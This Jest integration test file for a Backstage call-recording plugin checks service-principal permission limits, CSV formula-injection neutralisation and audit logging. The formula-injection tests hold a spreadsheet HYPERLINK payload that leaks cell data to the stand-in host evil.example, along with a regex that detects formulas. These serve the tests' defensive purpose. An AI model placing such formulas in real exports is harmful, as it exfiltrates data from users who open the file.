import { execFileSync } from 'node:child_process';
import { randomUUID } from 'node:crypto';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import {
  mockCredentials,
  mockServices,
  startTestBackend,
  TestDatabases,
} from '@backstage/backend-test-utils';
import {
  BackstageCredentials,
  coreServices,
  createBackendModule,
  createServiceFactory,
  PermissionsService,
} from '@backstage/backend-plugin-api';
import { catalogServiceMock } from '@backstage/plugin-catalog-node/testUtils';
import { notificationService } from '@backstage/plugin-notifications-node';
import {
  AuthorizeResult,
  PolicyDecision,
  ResourcePermission,
} from '@backstage/plugin-permission-common';
import {
  Conversation,
  voiceRecordingConversationReadPermission,
  voiceRecordingNumberReadPermission,
  voiceRecordingNumberSelfManagePermission,
  voiceRecordingPlanningModelReadPermission,
} from '@mvr/plugin-voice-recording-common';
import {
  createVoiceRecordingConversationConditionalDecision,
  StatusChangeNotification,
  voiceRecordingConversationConditions,
  voiceRecordingNotifierExtensionPoint,
} from '@mvr/plugin-voice-recording-node';
import { parse as parseCsv } from 'csv-parse/sync';
import { Knex } from 'knex';
import request from 'supertest';
import { ConversationSearchStore } from '../database/ConversationSearchStore';
import {
  createVoiceRecordingNumberConditionalDecision,
  voiceRecordingNumberConditions,
} from '../permissions';
import { voiceRecordingPlugin } from '../plugin';

// Issue 14, items 2-4: service principals limited to their channel, no formula
// injection in any CSV, and the audit of refused writes, no-change imports and searches.

jest.setTimeout(180_000);

const databases = TestDatabases.create({ ids: ['SQLITE_3', 'POSTGRES_15'] });
const demoFile = path.resolve(
  __dirname,
  '../../../../examples/voice-recording.yaml',
);

const ALICE = 'user:default/alice'; // compliance admin
const BOB = 'user:default/bob';
const NETWORK = 'service:external:mobile-network';

/**
 * The permission service as Backstage's: every service principal is ALLOWed (service-
 * to-service calls bypass the policy; only access restrictions apply, here none).
 * Users: alice admin, others their own numbers / self-managed numbers / conversations.
 */
function decide(
  permission: any,
  credentials: BackstageCredentials,
): PolicyDecision {
  const p = credentials.principal as any;
  if (p.type === 'service') return { result: AuthorizeResult.ALLOW };
  if (p.type !== 'user') return { result: AuthorizeResult.DENY };
  if (p.userEntityRef === ALICE) return { result: AuthorizeResult.ALLOW };
  const own = voiceRecordingNumberConditions.isNumberOwner({
    userRefs: [p.userEntityRef],
  });
  if (permission.name === voiceRecordingNumberReadPermission.name)
    return createVoiceRecordingNumberConditionalDecision(permission, own);
  if (permission.name === voiceRecordingNumberSelfManagePermission.name)
    return createVoiceRecordingNumberConditionalDecision(permission, {
      allOf: [own, voiceRecordingNumberConditions.isSelfManaged()],
    });
  if (permission.name === voiceRecordingConversationReadPermission.name)
    return createVoiceRecordingConversationConditionalDecision(
      permission as ResourcePermission<any>,
      voiceRecordingConversationConditions.isConversationOwner({
        userRefs: [p.userEntityRef],
      }),
    );
  if (permission.name === voiceRecordingPlanningModelReadPermission.name)
    return { result: AuthorizeResult.ALLOW };
  return { result: AuthorizeResult.DENY };
}

const permissionsFactory = createServiceFactory({
  service: coreServices.permissions,
  deps: {},
  factory: (): PermissionsService => ({
    async authorize(requests, { credentials }) {
      return requests.map(r => ({
        result:
          decide(r.permission, credentials).result === AuthorizeResult.ALLOW
            ? AuthorizeResult.ALLOW
            : AuthorizeResult.DENY,
      })) as any;
    },
    async authorizeConditional(queries, { credentials }) {
      return queries.map(q => decide(q.permission, credentials)) as any;
    },
  }),
});

const user = (name: string) => ({
  apiVersion: 'backstage.io/v1alpha1',
  kind: 'User',
  metadata: { name, namespace: 'default' },
  spec: { memberOf: [] },
});

/** A cell a spreadsheet would run as a formula (OWASP). */
const FORMULA = /^[=+\-@\t\r]/;

describe.each(databases.eachSupportedId())(
  'voice-recording hardening (issue 14) on %s',
  databaseId => {
    let knex: Knex;
    let app: any;
    let stop: () => Promise<void>;
    let storageDir: string;
    const notified: StatusChangeNotification[] = [];
    const api = '/api/voice-recording';

    const as = (ref: string) => ({
      Authorization: mockCredentials.user.header(ref),
    });
    const service = (subject: string) => ({
      Authorization: mockCredentials.service.header({
        onBehalfOf: mockCredentials.service(subject),
      } as any),
    });
    const asNetwork = service('external:mobile-network');
    const asCatalog = service('plugin:catalog');
    const byNumber = async (n: string) =>
      (
        await request(app)
          .get(`${api}/numbers/by-number/${encodeURIComponent(n)}`)
          .set(as(ALICE))
      ).body;
    const auditOf = async (query: string) =>
      (await request(app).get(`${api}/audit?${query}`).set(as(ALICE))).body
        .items as any[];

    beforeAll(async () => {
      knex = await databases.init(databaseId);
      storageDir = mkdtempSync(path.join(tmpdir(), 'vr-hardening-'));
      const testNotifiers = createBackendModule({
        pluginId: 'voice-recording',
        moduleId: 'test-notifiers',
        register(env) {
          env.registerInit({
            deps: { ep: voiceRecordingNotifierExtensionPoint },
            async init({ ep }) {
              ep.addNotifier({
                id: 'recording',
                notify: async n => void notified.push(n),
              });
            },
          });
        },
      });
      const backend = await startTestBackend({
        features: [
          voiceRecordingPlugin,
          testNotifiers,
          mockServices.database.factory({ knex }),
          mockServices.rootConfig.factory({
            data: {
              voiceRecording: {
                demoData: { file: demoFile },
                storage: { local: { directory: storageDir } },
              },
            },
          }),
          permissionsFactory,
          catalogServiceMock.factory({
            entities: ['alice', 'bob', 'carol', 'dave'].map(user),
          }),
          mockServices.events.mock().factory,
          createServiceFactory({
            service: notificationService,
            deps: {},
            factory: () => ({ send: async () => undefined }),
          }),
        ] as any,
      });
      app = backend.server;
      stop = () => backend.stop();
    });

    afterAll(async () => {
      await stop?.();
      rmSync(storageDir, { recursive: true, force: true });
    });

    describe('service principals have only the rights of their channel (item 2)', () => {
      it("refuses the network's token on a number that is not self-managed, as #135# does", async () => {
        const bob = await byNumber('+32470123456');
        expect(bob.settings.selfManaged).toBe(false);
        const portal = await request(app)
          .post(`${api}/numbers/${bob.id}/professional-mode`)
          .set(asNetwork)
          .send({ enabled: false });
        expect(portal.status).toBe(403);
        expect(portal.body.error.message).toMatch(/not self-managed/);
        const code = await request(app)
          .post(`${api}/network/feature-code`)
          .set(asNetwork)
          .send({ number: '+32470123456', code: '#135#' });
        expect(code.status).toBe(403);
        // nothing changed, and nobody was told otherwise
        expect((await byNumber('+32470123456')).settings).toMatchObject({
          statusMode: 'auto',
          activeStatus: 'professional',
        });
        expect(notified.filter(n => n.number === '+32470123456')).toEqual([]);
        const denied = await auditOf(
          `action=permission-denied&actor=${encodeURIComponent(NETWORK)}`,
        );
        expect(denied.length).toBeGreaterThanOrEqual(2);
        for (const entry of denied.slice(0, 2)) {
          expect(entry).toMatchObject({
            targetId: '+32470123456',
            details: {
              permission: 'voice-recording.number.self-manage',
              reason: 'not self-managed',
              channel: 'network',
              outcome: 'denied',
            },
          });
        }
        expect(
          await auditOf(`action=number-professional-mode&target=%2B32470123456`),
        ).toEqual([]);
      });

      it('lets the network switch a self-managed number, audited with its principal and channel, and says so to the user', async () => {
        const carol = await byNumber('+32471234567');
        expect(carol.settings.selfManaged).toBe(true);
        // carol wants an SMS when someone else changes her status
        await request(app)
          .patch(`${api}/numbers/${carol.id}`)
          .set(as(ALICE))
          .send({ settings: { smsOnStatusChange: true } })
          .expect(200);
        notified.length = 0;
        const off = await request(app)
          .post(`${api}/numbers/${carol.id}/professional-mode`)
          .set(asNetwork)
          .send({ enabled: false });
        expect(off.status).toBe(200);
        expect(off.body.settings.activeStatus).toBe('private');
        const [entry] = await auditOf(
          'action=number-professional-mode&target=%2B32471234567',
        );
        expect(entry.actorRef).toBe(NETWORK);
        expect(entry.details).toMatchObject({ enabled: false, via: 'network' });
        expect(notified).toHaveLength(1);
        expect(notified[0].changedBy).toBe(NETWORK);
        expect(notified[0].text).toMatch(/Changed by the mobile network\.$/);
        expect(notified[0].text).not.toMatch(/compliance/);

        // #135# on the phone
        notified.length = 0;
        const code = await request(app)
          .post(`${api}/network/feature-code`)
          .set(asNetwork)
          .send({ number: '+32471234567', code: '#135#' });
        expect(code.body).toEqual({ number: '+32471234567', professional: true });
        const [byCode] = await auditOf(
          'action=number-professional-mode&target=%2B32471234567',
        );
        expect(byCode).toMatchObject({
          actorRef: NETWORK,
          details: { via: 'feature-code', enabled: true },
        });
        expect(notified.map(n => n.text)).toEqual([
          'Call recording of +32471234567 is now Manual - Professional (recorded). Changed with #135# on the phone.',
        ]);

        // an admin in the portal is still "compliance"
        notified.length = 0;
        await request(app)
          .post(`${api}/numbers/${carol.id}/professional-mode`)
          .set(as(ALICE))
          .send({ enabled: false })
          .expect(200);
        expect(notified.map(n => n.text)).toEqual([
          'Call recording of +32471234567 is now Manual - Private (not recorded). Changed by compliance.',
        ]);
        const [byAdmin] = await auditOf(
          'action=number-professional-mode&target=%2B32471234567',
        );
        expect(byAdmin.details.via).toBe('portal');
      });

      it('refuses the network every other change and read, and backend plugins every change', async () => {
        const created = await request(app)
          .post(`${api}/numbers`)
          .set(as(ALICE))
          .send({ number: '+32478000001', userRef: 'bob' });
        expect(created.status).toBe(201);
        const id = created.body.id;
        for (const principal of [asNetwork, asCatalog]) {
          const attempts = [
            request(app).patch(`${api}/numbers/${id}`).set(principal).send({ settings: { beep: true } }),
            request(app).delete(`${api}/numbers/${id}`).set(principal),
            request(app).post(`${api}/numbers`).set(principal).send({ number: '+32478000002', userRef: 'bob' }),
            request(app).post(`${api}/numbers/${id}/slots`).set(principal).send({ weekdays: [6], start: '08:00', end: '09:00' }),
            request(app).post(`${api}/planning-models`).set(principal).send({ name: 'svc', slots: [{ weekdays: [1], start: '08:00', end: '09:00' }] }),
            request(app).post(`${api}/bulk/import`).set(principal).type('text/csv').send('number\n'),
            request(app).get(`${api}/audit`).set(principal),
            request(app).get(`${api}/conversations`).set(principal),
          ];
          for (const r of await Promise.all(attempts)) {
            const url = (r as any).req.path;
            expect({ url, status: r.status }).toEqual({ url, status: 403 });
          }
        }
        // the network reads no numbers; the catalog module does (all of them)
        expect((await request(app).get(`${api}/numbers`).set(asNetwork)).status).toBe(403);
        const listed = await request(app).get(`${api}/numbers?limit=500`).set(asCatalog);
        expect(listed.status).toBe(200);
        expect(listed.body.total).toBeGreaterThanOrEqual(6);
        // a backend plugin is no phone: no #135#, no professional mode
        const carol = await byNumber('+32471234567');
        expect(
          (await request(app).post(`${api}/numbers/${carol.id}/professional-mode`).set(asCatalog).send({ enabled: true })).status,
        ).toBe(403);
        expect(
          (await request(app).post(`${api}/network/feature-code`).set(asCatalog).send({ number: '+32471234567', code: '#135#' })).status,
        ).toBe(403);
        // both may ask the recording decision
        for (const principal of [asNetwork, asCatalog]) {
          expect(
            (await request(app).get(`${api}/policy/decision?number=%2B32470123456`).set(principal)).status,
          ).toBe(200);
        }
        expect((await byNumber('+32478000001')).settings.beep).toBe(false);
      });
    });

    describe('no formula injection in the CSVs (item 3)', () => {
      const evilModel = '=HYPERLINK("http://evil.example/?leak="&A1,"Office")';

      it('neutralises formula-like cells in the bulk export, and importing the export changes nothing', async () => {
        const model = await request(app)
          .post(`${api}/planning-models`)
          .set(as(ALICE))
          .send({ name: evilModel, slots: [{ weekdays: [1, 2, 3], start: '09:00', end: '17:00' }] });
        expect(model.status).toBe(201);
        const bob = await byNumber('+32470123456');
        await request(app)
          .post(`${api}/numbers/${bob.id}/apply-planning-model`)
          .set(as(ALICE))
          .send({ planningModelId: model.body.id })
          .expect(200);
        const exported = await request(app).get(`${api}/bulk/export`).set(as(ALICE));
        expect(exported.status).toBe(200);
        const rows: string[][] = parseCsv(exported.text);
        expect(rows.length).toBeGreaterThan(2);
        for (const cell of rows.flat()) expect(cell).not.toMatch(FORMULA);
        const bobRow = rows.find(r => r[0] === "'+32470123456");
        expect(bobRow?.[1]).toBe(`'${evilModel}`);
        const template = await request(app).get(`${api}/bulk/template`).set(as(ALICE));
        for (const cell of (parseCsv(template.text) as string[][]).flat())
          expect(cell).not.toMatch(FORMULA);

        const imported = await request(app)
          .post(`${api}/bulk/import`)
          .set(as(ALICE))
          .type('text/csv')
          .send(exported.text);
        expect(imported.body).toEqual({ applied: 0, unchanged: rows.length - 1, dryRun: false });
        // the same file without the quotes (written by hand) imports the same
        const resaved = exported.text.replace(/'\+/g, '+').replace(/"'=/g, '"=');
        const again = await request(app)
          .post(`${api}/bulk/import`)
          .set(as(ALICE))
          .type('text/csv')
          .send(resaved);
        expect(again.body).toEqual({ applied: 0, unchanged: rows.length - 1, dryRun: false });
      });

      it('neutralises the audit CSV and the export manifest (SIP metadata)', async () => {
        const numbers = await knex('vr_numbers').select('id', 'number');
        const evilParty = '=HYPERLINK("http://evil.example","call me")';
        const now = new Date().toISOString();
        const call = {
          id: randomUUID(),
          sipCallId: `hardening-${randomUUID()}`,
          number: '+32470123456',
          userRef: BOB,
          recordedNumberId: numbers.find((r: any) => r.number === '+32470123456')?.id,
          otherParty: evilParty,
          participants: [],
          metadata: {},
          dtmf: [],
          state: 'finished',
          captureSource: 'test',
          createdAt: now,
          updatedAt: now,
          direction: 'incoming',
          startedAt: '2026-04-01T08:00:00.000Z',
          durationMs: 1000,
        } as unknown as Conversation;
        await new ConversationSearchStore(knex).insertFinished([call]);
        const r = await request(app)
          .post(`${api}/conversations/export`)
          .set(as(ALICE))
          .send({ ids: [call.id] })
          .buffer(true)
          .parse((res, cb) => {
            const chunks: Buffer[] = [];
            res.on('data', (c: Buffer) => chunks.push(c));
            res.on('end', () => cb(null, Buffer.concat(chunks)));
          });
        expect(r.status).toBe(200);
        const dir = mkdtempSync(path.join(tmpdir(), 'vr-zip-'));
        try {
          writeFileSync(path.join(dir, 'x.zip'), r.body);
          execFileSync('unzip', ['-q', path.join(dir, 'x.zip'), 'manifest.csv', '-d', dir]);
          const manifest: Record<string, string>[] = parseCsv(
            readFileSync(path.join(dir, 'manifest.csv'), 'utf8'),
            { columns: true },
          );
          expect(manifest).toHaveLength(1);
          expect(manifest[0].otherParty).toBe(`'${evilParty}`);
          expect(manifest[0].number).toBe("'+32470123456");
          for (const cell of manifest.flatMap(m => Object.values(m)))
            expect(cell).not.toMatch(FORMULA);
        } finally {
          rmSync(dir, { recursive: true, force: true });
        }

        const csv = await request(app).get(`${api}/audit?format=csv`).set(as(ALICE));
        expect(csv.status).toBe(200);
        const audit: Record<string, string>[] = parseCsv(csv.text, { columns: true });
        expect(audit.length).toBeGreaterThan(5);
        for (const cell of audit.flatMap(a => Object.values(a)))
          expect(cell).not.toMatch(FORMULA);
        expect(audit.map(a => a.targetId)).toContain("'+32470123456");
      });
    });

    describe('audit of refused writes, no-change imports and searches (item 4)', () => {
      const refused = async (query = '') =>
        auditOf(`action=request-refused${query}`);

      it('audits refused writes (400, 404, 409) once, with actor, status and reason; a 403 stays one permission-denied entry', async () => {
        const bob = await byNumber('+32470123456');
        const before = (await refused()).length;
        const bad = await request(app)
          .patch(`${api}/numbers/${bob.id}`)
          .set(as(ALICE))
          .send({ settings: { statusMode: 'sometimes' } });
        expect(bad.status).toBe(400);
        const [entry] = await refused('&target=%2B32470123456');
        expect(entry).toMatchObject({
          actorRef: ALICE,
          targetType: 'number',
          targetId: '+32470123456',
          details: {
            method: 'PATCH',
            path: `${api}/numbers/${bob.id}`,
            status: 400,
            outcome: 'refused',
            channel: 'portal',
            id: bob.id,
          },
        });
        expect(entry.details.error).toMatch(/statusMode/);

        const missing = randomUUID();
        expect(
          (await request(app).delete(`${api}/numbers/${missing}`).set(as(ALICE))).status,
        ).toBe(404);
        const [notFound] = await refused(`&target=${missing}`);
        expect(notFound.details).toMatchObject({ method: 'DELETE', status: 404, outcome: 'refused' });

        const inUse = (await request(app).get(`${api}/planning-models`).set(as(ALICE))).body.items.find(
          (m: any) => m.name === 'Office hours',
        );
        expect(
          (await request(app).delete(`${api}/planning-models/${inUse.id}`).set(as(ALICE))).status,
        ).toBe(409);
        const [conflict] = await refused(`&target=${inUse.id}`);
        expect(conflict).toMatchObject({
          targetType: 'planning-model',
          details: { status: 409, outcome: 'refused' },
        });

        // a bulk file with errors: refused, with the count of wrong rows, not the file
        const file = 'number,planning_model,status_mode,active_status,beep,sms,self_management\n+32479999999,Nope,auto,professional,maybe,no,no\n';
        expect(
          (await request(app).post(`${api}/bulk/import`).set(as(ALICE)).type('text/csv').send(file)).status,
        ).toBe(400);
        const [bulk] = await refused('&targetType=numbers');
        expect(bulk.details).toMatchObject({ status: 400, errorCount: 3 });
        expect(JSON.stringify(bulk)).not.toContain('maybe,no,no');

        // a denial (403) is one permission-denied entry, not two
        const deniedBefore = (await auditOf(`action=permission-denied&actor=${encodeURIComponent(BOB)}`)).length;
        expect(
          (await request(app).patch(`${api}/numbers/${bob.id}`).set(as(BOB)).send({ settings: { beep: false } })).status,
        ).toBe(403);
        expect((await auditOf(`action=permission-denied&actor=${encodeURIComponent(BOB)}`)).length).toBe(deniedBefore + 1);
        expect((await refused(`&actor=${encodeURIComponent(BOB)}`)).length).toBe(0);
        // reads are not "refused changes"
        await request(app).get(`${api}/numbers/${missing}`).set(as(ALICE)).expect(404);
        expect((await refused()).length).toBe(before + 4);
      });

      it('audits a bulk import that changes nothing, and a dry run', async () => {
        const exported = await request(app).get(`${api}/bulk/export`).set(as(ALICE));
        const before = (await auditOf('action=bulk-import')).length;
        const same = await request(app)
          .post(`${api}/bulk/import`)
          .set(as(ALICE))
          .type('text/csv')
          .send(exported.text);
        expect(same.body.applied).toBe(0);
        await request(app)
          .post(`${api}/bulk/import?dryRun=true`)
          .set(as(ALICE))
          .type('text/csv')
          .send(exported.text)
          .expect(200);
        const entries = await auditOf('action=bulk-import');
        expect(entries).toHaveLength(before + 2);
        expect(entries[1]).toMatchObject({
          actorRef: ALICE,
          details: { dryRun: false, applied: 0, unchanged: same.body.unchanged, outcome: 'succeeded' },
        });
        expect(entries[0].details).toMatchObject({ dryRun: true, applied: 0 });
      });

      it('audits who searched conversations for what, with the filters and the count, never the results', async () => {
        const search = await request(app)
          .get(`${api}/conversations?phone=${encodeURIComponent('0475 11 12 22')}&direction=outgoing&limit=5`)
          .set(as(BOB));
        expect(search.status).toBe(200);
        // "who looked for this client's calls"
        const [entry] = await auditOf('action=conversation-search&target=%2B32475111222');
        expect(entry).toMatchObject({
          actorRef: BOB,
          targetType: 'phone',
          targetId: '+32475111222',
          details: {
            filters: { phone: '0475 11 12 22', direction: 'outgoing', limit: 5 },
            phone: '+32475111222',
            count: search.body.items.length,
            total: search.body.total,
            nextPage: false,
          },
        });
        // a partial number, another user, and no result copied into the trail
        const partial = await request(app)
          .get(`${api}/conversations?phone=4751&from=2026-01-01T00:00:00Z`)
          .set(as(ALICE));
        expect(partial.status).toBe(200);
        const [byAlice] = await auditOf(
          `action=conversation-search&actor=${encodeURIComponent(ALICE)}`,
        );
        expect(byAlice).toMatchObject({
          targetType: 'phone',
          targetId: '4751',
          details: { filters: { phone: '4751', from: '2026-01-01T00:00:00Z' } },
        });
        const text = JSON.stringify(byAlice);
        for (const item of partial.body.items) expect(text).not.toContain(item.id);
        expect(text).not.toMatch(/Bearer|token/i);
      });
    });
  },
);
